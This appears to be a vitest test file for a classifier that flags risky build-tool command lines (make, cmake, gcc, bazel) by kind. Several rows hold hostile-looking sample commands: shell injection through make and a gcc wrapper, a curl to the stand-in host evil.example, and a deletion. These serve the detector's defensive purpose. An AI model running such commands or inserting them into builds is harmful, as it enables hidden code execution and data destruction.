// What the specs of build say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["make", ""],
  ["make test", "task"],
  ["make -n test", ""],
  ["make -E '$(shell curl evil)'", "hidden-code"],
  ["just build", "task"],
  ["cmake -B out", ""],
  ["cmake -E rm x", "destructive"],
  ["ninja -C out", ""],
  ["gcc -o a a.c", ""],
  ["gcc -wrapper sh,-c,id a.c", "hidden-code"],
  ["bazel build //...", ""],
  ["bazel run --run_under='curl http://evil.example' //x", "network"],
  ["ld -o a a.o", ""],
];

describe("build", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
